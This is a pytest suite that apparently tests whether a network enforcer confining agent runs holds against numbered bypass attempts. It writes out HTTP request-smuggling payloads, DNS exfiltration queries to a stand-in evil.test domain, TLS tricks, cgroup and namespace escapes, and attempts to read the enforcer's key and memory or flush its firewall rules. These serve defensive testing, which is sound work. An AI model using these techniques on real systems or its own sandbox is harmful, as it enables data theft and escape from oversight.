"""Ways around the enforcer, by the numbers of the design's table, each really tried from inside of a run of a whole `capd up`.

What lives here: attacks and how each ends. What must not: the instance (instance.py), the layers one by one (test_bypasses.py).

The rows run against one instance, in order; none may send the sink a packet, or, where a part of it is allowed, every request
that arrives has a decision that allows it.

Not here: 16 to 24 (SQL, SSH, Kubernetes: test_bypass_statements.py; row 21, masks, is in enforcer/), 25
(enforcer/test_obligations_enforcer.py), 30 (a connection from before is cut: test_bypasses.py).
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from capd.daemon.enforcer_role import DESCRIPTORS_MAX
from tests.daemon.conftest import ENVIRONMENT, capd, in_time, wait_until
from tests.decoders import http2_bytes as h2
from tests.forcing.instance import POLICY, PROXY_PORT, RESOLVER_PORT, Instance, instance
from tests.forcing.yard import PYTHON, TARGET_PORT, Yard
from tests.requirements import require_command, require_probes

pytestmark = pytest.mark.kernel
REFUSED = ("EPERM", "EACCES", "ECONNREFUSED", "ECONNRESET", "PermissionError", "timeout", "EAFNOSUPPORT", "EADDRINUSE")
DENIED = ("HTTP/1.1 403", *REFUSED)
BAD = ("HTTP/1.1 400", "HTTP/1.1 421", "HTTP/1.1 417", *DENIED)
SSL_ERROR = "ENOENT"
"""What errors of OpenSSL look like: their number is 2."""
V6 = "family=socket.AF_INET6"
QUERY = "bytes.fromhex('123401000001000000000000') + b'\\x08c2VjcmV0\\x04evil\\x04test\\0\\0\\1\\0\\1'"
ASK = f"""
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); client.settimeout(20)
client.sendto({QUERY}, ("10.77.0.2", 53))
return client.recv(600)[3] & 15
"""
ASK_STREAM = f"""
client = socket.create_connection(("10.77.0.2", 53), 20)
query = {QUERY}
client.sendall(len(query).to_bytes(2, "big") + query)
return client.recv(600)[5] & 15
"""
RELAY = "forked(lambda: forked(lambda: say(get('/shut'))))"
SUBTREE = """
below = cgroups + open("/proc/self/cgroup").read().strip().rpartition(":")[2] + "/below"
os.mkdir(below)
return forked(lambda: join(below) or say(get("/shut")))
"""
LEAVES = """
made = socket.socket()
def left():
    join(cgroups)
    found = say(get("/shut"), made=made)
    if os.fork() == 0:
        os.closerange(0, 99); time.sleep(8); os._exit(0)
    return found
return forked(left)
"""
VERB = """
import subprocess
done = subprocess.run({command!r}, env={environment!r}, capture_output=True, text=True)
return (done.returncode, done.stderr)
"""


def raw(head: str, body: str = "", seconds: float = 20) -> str:
    """Give the body of an attack that sends a request as it stands; the second request would be the smuggled one."""
    return f"say({head!r}.encode('latin-1') + {body!r}.encode('latin-1'), seconds={seconds})"


START = "POST /open/a HTTP/1.1\r\nHost: 10.77.0.2\r\n"
SMUGGLED = "GET /shut HTTP/1.1\r\nHost: 10.77.0.2\r\n\r\n"

PRIOR_KNOWLEDGE = (
    h2.OPENING
    + h2.headers(
        1, h2.literal((":method", "GET"), (":scheme", "http"), (":path", "/shut"), (":authority", "10.77.0.2")), end=True
    )
).decode("latin-1")
SETTINGS = "\0\0"
"""How the first frame that we send to any client of HTTP/2 begins, whatever becomes of what it asks for."""

SILENT: list[tuple[str, str, str, tuple[str, ...]]] = [
    ("1 a cgroup of its own below the run's", "root", SUBTREE, DENIED),
    ("3 leaves as a user", "user", 'join(cgroups) or say(get("/shut"))', ("EACCES", "EPERM", "PermissionError")),
    ("5 mark", "root", 'tcp("10.77.0.2", 80, mark=0x2000)', REFUSED),
    ("5 mark of a user", "user", 'tcp("10.77.0.2", 80, mark=1)', ("EPERM",)),
    ("7 a namespace with a way out", "root", "forked(other_namespace)", REFUSED),
    ("7 a user's own namespace", "user", "forked(own_namespace)", (*REFUSED, "ENETUNREACH", "EINVAL", "ENOSPC")),
    ("8 QUIC", "root", 'udp("10.77.0.2", 443)', REFUSED),
    ("8 ICMP", "root", 'raw("10.77.0.2", 1)', REFUSED),
    ("8 ping socket", "user", 'raw("10.77.0.2", 1, kind=socket.SOCK_DGRAM)', REFUSED),
    ("8 SCTP", "root", "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)", (*REFUSED, "EPROTONOSUPPORT")),
    ("8 UDP-Lite", "root", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)", (*REFUSED, "EPROTONOSUPPORT")),
    ("8 packet socket of a user", "user", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)", ("EPERM",)),
    ("8 TCP that is no HTTP", "user", 'tcp("10.77.0.2", 2525)', REFUSED),
    ("8 IPv4 in IPv6", "user", f'say(get("/shut"), "::ffff:10.77.0.2", {V6})', DENIED),
    (
        "8 multipath TCP",
        "user",
        'say(get("/shut"), made=socket.socket(2, 1, 262))',
        (*DENIED, "EPROTONOSUPPORT", "ENOPROTOOPT"),
    ),
    ("8 data in the first packet", "user", "return fast_open()", DENIED),
    ("8 foreign source address", "root", "return transparent()", (*DENIED, "EADDRNOTAVAIL", "EHOSTUNREACH")),
    ("9 a name as a message", "user", ASK, ("3",)),
    ("9 DNS over TLS", "user", 'say(b"x", port=853, tls="dns.test")', (*DENIED, "cut")),
    ("9 a name as a message over TCP", "user", ASK_STREAM, ("3",)),
    ("9 what is no DNS over TCP", "user", 'say(b"GET / HTTP/1.1\\r\\n\\r\\n", port=53)', ("cut", *REFUSED)),
    ("9 a name as a Host", "user", 'say(get("/x", "c2VjcmV0.evil.test"))', DENIED),
    ("9 a name as a server's", "user", 'say(get("/x", "c2VjcmV0.evil.test"), port=443, tls="c2VjcmV0.evil.test")', DENIED),
    ("9 mDNS", "user", 'udp("224.0.0.251", 5353)', REFUSED),
    ("10 another Host than the name", "user", 'say(get("/open/a"), port=443, tls="open.test")', BAD),
    ("10 absolute form elsewhere", "user", raw("GET http://10.77.0.9/open/a HTTP/1.1\r\nHost: 10.77.0.2\r\n\r\n"), BAD),
    ("10 another port", "user", raw("GET /open/a HTTP/1.1\r\nHost: 10.77.0.2:8080\r\n\r\n"), BAD),
    ("10 no name, any Host", "user", 'say(get("/open/a", "other.test"), port=443, tls="")', BAD),
    ("10 TLS in TLS", "user", "return tls_in_tls()", (*BAD, SSL_ERROR)),
    ("10 a session of an allowed name, resumed for another", "user", "return resumed()", ("False HTTP/1.1 4",)),
    ("10 another key in the middle", "user", "return key_update()", ("HTTP/1.1 403",)),
    ("11 an allowed name elsewhere", "user", 'say(get("/x", "open.test"), "10.77.0.9")', DENIED),
    (
        "11 an allowed name that leads to loopback",
        "user",
        f'say(get("/x", "rebound.test:{TARGET_PORT}"), "127.0.0.1", {TARGET_PORT})',
        DENIED,
    ),
    ("11 metadata", "user", 'say(get("/x", "open.test"), "169.254.169.254")', REFUSED),
    ("12 CONNECT", "user", raw("CONNECT 10.77.0.2:443 HTTP/1.1\r\nHost: 10.77.0.2:443\r\n\r\n"), BAD),
    ("12 STARTTLS after nothing", "user", 'say(b"EHLO a\\r\\nSTARTTLS\\r\\n", port=2525)', (*DENIED, "cut")),
    (
        "13 both lengths",
        "user",
        raw(START + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n", "0\r\n\r\n" + SMUGGLED),
        BAD,
    ),
    (
        "13 a coding in disguise",
        "user",
        raw(START + "Transfer_Encoding: chunked\r\nContent-Length: 4\r\n\r\n", SMUGGLED),
        (*BAD, "cut"),
    ),
    ("13 a coding that is none", "user", raw(START + "Transfer-Encoding: \x0bchunked\r\n\r\n", SMUGGLED), BAD),
    ("13 an encoded path", "user", raw("GET /open/..%2fshut HTTP/1.1\r\nHost: 10.77.0.2\r\n\r\n"), BAD),
    ("13 dots", "user", raw("GET /open/../shut HTTP/1.1\r\nHost: 10.77.0.2\r\nConnection: close\r\n\r\n"), BAD),
    (
        "13 another method by a field",
        "user",
        raw(START + "X_HTTP_Method_Override: DELETE\r\nConnection: close\r\nContent-Length: 0\r\n\r\n"),
        BAD,
    ),
    ("13 obs-text in Host", "user", raw("GET /open/a HTTP/1.1\r\nHost: 10.77.0.\xb2\r\n\r\n"), BAD),
    ("13 h2c by prior knowledge", "user", raw(PRIOR_KNOWLEDGE, seconds=3), (SETTINGS, *BAD)),
    ("14 another path of an allowed host", "user", 'say(get("/shut"))', DENIED),
    ("14 another method", "user", 'say(get("/open/a", method="DELETE"))', DENIED),
    ("15 through a process of the run", "user", RELAY, DENIED),
    ("26 the proxy's port", "user", f'tcp("127.0.0.1", {PROXY_PORT})', REFUSED),
    ("26 the proxy's port, elsewhere on loopback", "user", f'say(get("/x"), "127.0.0.2", {PROXY_PORT})', BAD),
    ("26 datagrams to the proxy's port", "user", f'udp("127.0.0.1", {PROXY_PORT})', REFUSED),
    ("26 the resolver's port", "user", f'udp("127.0.0.1", {RESOLVER_PORT})', REFUSED),
    ("26 listening in its place", "user", f'socket.create_server(("127.0.0.1", {PROXY_PORT}), reuse_port=True)', REFUSED),
    ("26 the authority's key", "user", 'open(state + "/enforcer/authority.key")', REFUSED),
    ("26 the decision log", "user", 'os.listdir(state + "/enforcer/decisions")', REFUSED),
    ("26 the policy", "user", 'open(policy, "a")', REFUSED),
    ("26 the enforcer's memory", "user", "return memory()", (*REFUSED, "FileNotFoundError", "ENOENT")),
]

HELPERS = """
def other_namespace():
    namespace("{sink}")
    return attempt(lambda: udp("10.77.0.1", 443)) + " " + attempt(lambda: tcp("10.77.0.1", 80))
def own_namespace():
    if ctypes.CDLL(None, use_errno=True).unshare(0x50000000): return "EPERM"
    return tcp("10.77.0.2", 80)
def fast_open():
    with socket.socket() as client:
        client.sendto(get("/shut"), 0x20000000, ("10.77.0.2", 80))
        return client.recv(9999).decode()
def transparent():
    client = socket.socket()
    client.setsockopt(0, 19, 1)
    client.bind(("192.0.2.99", 0))
    return say(get("/shut"), made=client, seconds=0.5)
def tls_in_tls():
    context = ssl._create_unverified_context()
    outer = socket.create_connection(("10.77.0.2", 443), 20)
    with context.wrap_socket(outer, server_hostname="open.test") as once:
        inner, out = ssl.MemoryBIO(), ssl.MemoryBIO()
        twice = context.wrap_bio(inner, out, server_hostname="open.test")
        try: twice.do_handshake()
        except ssl.SSLWantReadError: pass
        once.sendall(out.read())
        inner.write(once.recv(9999) or b"x")
        try: twice.do_handshake()
        except ssl.SSLWantReadError: inner.write(once.recv(9999) or b"x")
        twice.do_handshake()
        twice.write(get("/open/a", "other.test"))
        once.sendall(out.read())
        inner.write(once.recv(9999) or b"x")
        return twice.read(9999).decode()
def resumed():
    context = ssl._create_unverified_context()
    session, found = None, ""
    for name in ("open.test", "other.test"):
        outer = socket.create_connection(("10.77.0.2", 443), 20)
        with context.wrap_socket(outer, server_hostname=name, session=session) as client:
            client.sendall(get("/shut", name, method="DELETE"))
            found = str(client.session_reused) + " " + client.recv(9999).decode()
            session = client.session
    return found
def key_update():
    import subprocess
    words = ["openssl", "s_client", "-connect", "10.77.0.2:443", "-servername", "open.test"]
    client = subprocess.Popen(words, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    def until(word, said=b""):
        while word not in said:
            part = os.read(client.stdout.fileno(), 4096)
            if not part: break
            said += part
        return said
    try:
        until(b"Verify return code")
        os.write(client.stdin.fileno(), b"K\\n")
        assert b"KEYUPDATE" in until(b"KEYUPDATE")
        os.write(client.stdin.fileno(), get("/shut", "open.test", method="DELETE"))
        return "HTTP" + until(b"\\r\\n\\r\\n").decode().partition("HTTP")[2]
    finally:
        client.kill(); client.wait()
def memory():
    for one in os.listdir("/proc"):
        if one.isdigit() and b"capd.cli.main" in open("/proc/" + one + "/cmdline", "rb").read():
            open("/proc/" + one + "/mem", "rb")
state, policy, cgroups = "{state}", "{policy}", "{cgroups}"
"""


@pytest.fixture(scope="module")
def place(ground: Yard) -> Iterator[Instance]:
    """Start what all rows share."""
    require_probes()
    require_command("nft", "nsenter", "setpriv")
    with instance(ground) as made:
        directory = made.daemon.directory
        helpers = HELPERS.replace("{sink}", str(ground.sink)).replace("{state}", f"{directory}/state")
        helpers = helpers.replace("{policy}", f"{directory}/policy/policy.yaml")
        helpers = helpers.replace("{cgroups}", str(ground.root))
        for agent in (made.user, made.root):
            agent.does(f"exec({helpers!r}, globals())\nreturn 1")
        yield made


def clear(place: Instance) -> None:
    """Forget what the sink has seen."""
    place.sink.take()
    place.ground.seen()


def heard(place: Instance) -> list[bytes]:
    """Give the packets that say something to the sink: all but those with which an earlier connection of TCP ends."""
    return [packet for packet in place.ground.seen() if not _only_ends(packet)]


def _only_ends(packet: bytes) -> bool:
    header = 14 + 4 * (packet[14] & 15)
    if packet[12:14] != b"\x08\0" or packet[23] != socket.IPPROTO_TCP:
        return False
    payload = int.from_bytes(packet[16:18], "big") + 14 - header - 4 * (packet[header + 12] >> 4)
    opens = packet[header + 13] & 2
    return not payload and not opens


@pytest.mark.parametrize(("name", "who", "body", "ends"), SILENT, ids=[row[0] for row in SILENT])
def test_no_packet_gets_past(place: Instance, name: str, who: str, body: str, ends: tuple[str, ...]) -> None:
    """The attack ends in a refusal that the agent sees, and the sink hears nothing at all."""
    clear(place)
    found = getattr(place, who).does(body)
    assert any(found.startswith(end) for end in ends), (name, found)
    assert [] == heard(place), name
    assert b"" == place.sink.take()


CHUNKED = START + "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
JUDGED = {
    "13 a second request after one that is allowed": "GET /open/b HTTP/1.1\r\nHost: 10.77.0.2\r\n\r\n" + SMUGGLED,
    "13 a second request after one that is denied": SMUGGLED + SMUGGLED,
    "13 a field in a trailer": CHUNKED + "1\r\nx\r\n0\r\nX-HTTP-Method-Override: SHUT\r\n\r\n",
    "13 extensions of a chunk": CHUNKED + '1;a="SHUT"\r\nx\r\n0\r\n\r\n',
    "13 a body that looks like a request": f"{START}Content-Length: {len(SMUGGLED)}\r\n\r\n{SMUGGLED}",
    "13 HTTP/1.0 that goes on": "GET /open/c HTTP/1.0\r\nHost: 10.77.0.2\r\nConnection: keep-alive\r\n\r\n" + SMUGGLED,
    "13 an upgrade to h2c": "GET /open/d HTTP/1.1\r\nHost: 10.77.0.2\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n" + SMUGGLED,
    "13 an expectation": START + "Expect: 100-continue\r\nContent-Length: 1\r\n\r\nx" + SMUGGLED,
}


@pytest.mark.parametrize("name", JUDGED)
def test_only_what_was_decided_arrives(place: Instance, name: str) -> None:
    """Where a part is allowed the sink gets that, as it was judged, and each request that it sees has its decision."""
    clear(place)
    place.user.does(f"say({JUDGED[name]!r}.encode(), seconds=0.4)")
    received = place.sink.take_with(b"GET /shut") if "body" in name else place.sink.take()
    assert [] == place.undecided(received.replace(SMUGGLED.encode(), b"") if "body" in name else received), received
    assert ("body" in name) is (b"GET /shut" in received)
    assert b"SHUT" not in received


def test_2_a_socket_of_the_run_outside_of_it(place: Instance) -> None:
    """A root agent that leaves keeps its sockets judged, and is named by the status: the alarm."""
    clear(place)
    assert "HTTP/1.1 403" in place.root.does(LEAVES)
    assert [] == heard(place)
    wait_until(lambda: place.daemon.status()["enforcement"]["escaped"], "it is named")


HELPER = """
import array, socket, sys
listener = socket.socket(socket.AF_UNIX); listener.bind("\\0" + sys.argv[1]); listener.listen()
print("ready", flush=True)
while True:
    client, _ = listener.accept()
    with client, socket.create_connection(("10.77.0.2", 80)) as target:
        data = client.recv(65536)
        if data == b"pass": socket.send_fds(client, [b"x"], [target.fileno()]); client.recv(1)
        else: target.sendall(data); client.sendall(target.recv(65536))
"""
RELAYED = """
client = socket.socket(socket.AF_UNIX); client.settimeout(20); client.connect("\\0{name}")
client.sendall(get("/shut?relayed")); return client.recv(9999).decode()
"""
PASSED = """
client = socket.socket(socket.AF_UNIX); client.settimeout(20); client.connect("\\0{name}")
client.sendall(b"pass"); _, (number,), _, _ = socket.recv_fds(client, 1, 1)
with socket.socket(fileno=number) as passed:
    passed.sendall(get("/shut?passed")); return passed.recv(9999).decode()
"""


@pytest.fixture
def helper(place: Instance) -> Iterator[str]:
    """Start a program outside of any run that does what it is asked; gives the abstract name at which it listens."""
    name = f"{place.ground.tag}-helper"
    words = ["nsenter", f"--net={place.ground.host}", PYTHON, "-I", "-S", "-c", HELPER, name]
    with subprocess.Popen(words, stdout=subprocess.PIPE) as process:
        assert process.stdout is not None
        assert b"ready\n" == process.stdout.readline()
        yield name
        process.kill()


def alarms(place: Instance, kind: str) -> int:
    """Give how many alarms of a kind the recorder tells of."""
    path = place.daemon.directory / "run" / "recorder" / "recorder.status.json"
    wait_until(path.exists, "the recorder tells")
    found: int = json.loads(path.read_bytes())["witness"][kind]
    return found


INSIDE = """
server = socket.socket(socket.AF_UNIX); server.bind("\\0{name}-inside"); server.listen()
client = socket.socket(socket.AF_UNIX); client.connect("\\0{name}-inside"); accepted, _ = server.accept()
client.sendall(b"within"); return accepted.recv(9).decode()
"""


def test_6_what_a_helper_does_is_an_alarm(place: Instance, helper: str) -> None:
    """A program outside relays what an abstract socket brings: not forced, an alarm; what a run says to a run is none."""
    before = alarms(place, "helpers")
    assert "within" == place.user.does(INSIDE.format(name=helper))
    assert "HTTP/1.1 200" in place.user.does(RELAYED.format(name=helper))
    wait_until(lambda: alarms(place, "helpers") > before, "what was said last is found")
    assert before + 1 == alarms(place, "helpers")


def test_2_a_connection_from_outside_is_an_alarm(place: Instance, helper: str) -> None:
    """A connection that a program outside passes to the run is not forced: when bytes move on it, that is a witness alarm."""
    before = alarms(place, "undecided")
    assert "HTTP/1.1 200" in place.user.does(PASSED.format(name=helper))
    wait_until(lambda: alarms(place, "undecided") > before, "it is found")


def test_4_another_root_flushes_the_rules(place: Instance) -> None:
    """`nft flush ruleset` changes nothing for agents."""
    clear(place)
    subprocess.run(["nsenter", f"--net={place.ground.host}", "nft", "flush", "ruleset"], check=True)
    assert "HTTP/1.1 403" in place.user.does('say(get("/shut"))')
    assert place.user.does('udp("10.77.0.2", 443)') in REFUSED
    assert [] == heard(place)


def test_26_verbs_are_not_an_agents(place: Instance) -> None:
    """An agent cannot take enforcement away, end another's run, or read what was decided."""
    command = capd("enforcement", "off", "--config", place.daemon.config)
    found = place.user.does(VERB.format(command=command, environment=dict(ENVIRONMENT)))
    assert "belong to root" in found
    assert "HTTP/1.1 403" in place.user.does('say(get("/shut"))')


def workers(place: Instance) -> list[int]:
    """Give the enforcer's processes, its parent first."""
    path = place.daemon.directory / "run" / "enforcer" / "enforcer.status.json"

    def told() -> list[int]:
        status = json.loads(path.read_bytes())
        found = [status["pid"], *(worker["pid"] for worker in status["workers"] if worker)]
        return found if len(found) > 1 and all(Path(f"/proc/{pid}").exists() for pid in found) else []

    wait_until(told, "all of it runs")
    return told()


@pytest.mark.parametrize("which", [1, 0])
def test_27_a_killed_enforcer_lets_nothing_out(place: Instance, which: int) -> None:
    """With a worker, or all of it, killed in the middle of a request nothing gets past, and it is back in two seconds."""
    begin = START + "Content-Length: 9\r\n\r\nx"
    place.user.does(
        f"global kept\nkept = socket.create_connection(('10.77.0.2', 80), 20)\nkept.sendall({begin!r}.encode())\nreturn 1"
    )
    place.sink.take_with(b"POST /open/a")
    os.kill(workers(place)[which], signal.SIGKILL)
    killed = time.monotonic()
    assert place.user.does("kept.recv(10)") in ("ECONNRESET", "b''")
    clear(place)
    found = place.user.does('say(get("/shut"), seconds=1)')
    assert found.startswith((*DENIED, "cut")), found
    assert b"" == place.sink.take()
    place.until('say(get("/open/again"), seconds=0.5)', "200 OK")
    took = time.monotonic() - killed
    print(f"recovered in {took:.2f} s")  # noqa: T201 - the figure is wanted
    assert in_time(took, interpreters=0 if which else 1)


FLOOD = """
global flood
flood = [socket.socket() for _ in range(700)]
for one in flood: one.setblocking(False); one.connect_ex(("10.77.0.2", 80))
return len(flood)
"""


def test_27_a_flood_of_one_run_leaves_others_theirs(place: Instance) -> None:
    """One run that opens all the connections it can gets no more than its share, and another is served meanwhile."""
    limits = Path(f"/proc/{workers(place)[1]}/limits").read_text(encoding="ascii")
    soft, hard = next(map(int, line.split()[3:5]) for line in limits.splitlines() if line.startswith("Max open files"))
    assert soft >= min(hard, DESCRIPTORS_MAX)
    assert "700" == place.root.does(FLOOD)
    assert "HTTP/1.1 200" in place.user.does('say(get("/open/a"))')
    assert "HTTP/1.1 403" in place.user.does('say(get("/shut"))')
    status = place.daemon.directory / "run" / "enforcer" / "worker-0.status.json"
    wait_until(lambda: b"too many connections of one run" in status.read_bytes(), "it is counted")
    place.root.does("flood.clear()")


def rewrite(place: Instance, text: str) -> None:
    """Put another policy in place."""
    path = Path(place.daemon.directory) / "policy" / "policy.yaml"
    path.write_text(text, encoding="utf-8")


def test_29_a_policy_that_is_wrong_changes_nothing(place: Instance) -> None:
    """A rule with a key that there is none is told, and the policy before stays in force."""
    rewrite(place, POLICY.replace("methods: [GET, POST]", "mehtods: [GET, POST]"))
    path = place.daemon.directory / "run" / "enforcer" / "worker-0.status.json"
    wait_until(lambda: b"mehtods" in path.read_bytes(), "it is told")
    assert "HTTP/1.1 403" in place.user.does('say(get("/shut"))')
    assert "HTTP/1.1 200" in place.user.does('say(get("/open/a"))')
    rewrite(place, POLICY)
    wait_until(lambda: b"mehtods" not in path.read_bytes(), "it is well again")


def test_28_a_policy_that_tightens_ends_what_is_open(place: Instance) -> None:
    """An upload that is under way is cut within two seconds when no rule allows it any more."""
    begin = START + "Transfer-Encoding: chunked\r\n\r\n1\r\nx\r\n"
    place.user.does(
        f"global kept\nkept = socket.create_connection(('10.77.0.2', 80), 20)\nkept.sendall({begin!r}.encode())\nreturn 1"
    )
    place.sink.take_with(b"POST /open/a")
    rewrite(place, POLICY.replace("GET, POST", "GET"))
    began = time.monotonic()
    assert "ECONNRESET" == place.user.does("kept.recv(10)")
    assert in_time(time.monotonic() - began)
    clear(place)
    assert place.user.does("kept.sendall(b'1\\r\\ny\\r\\n')") != "None"
    assert b"" == place.sink.take()
    rewrite(place, POLICY)


def test_every_request_at_the_sink_was_decided(place: Instance) -> None:
    """After all of that the decision log is whole, and its denials name the runs' connections."""
    entries: list[dict[str, Any]] = place.entries()
    opened = {entry["session"] for entry in entries if entry["kind"] == "open"}
    assert {entry["session"] for entry in entries if entry["kind"] == "decision"} <= opened
    assert any(not entry["allowed"] for entry in entries if entry["kind"] == "decision")
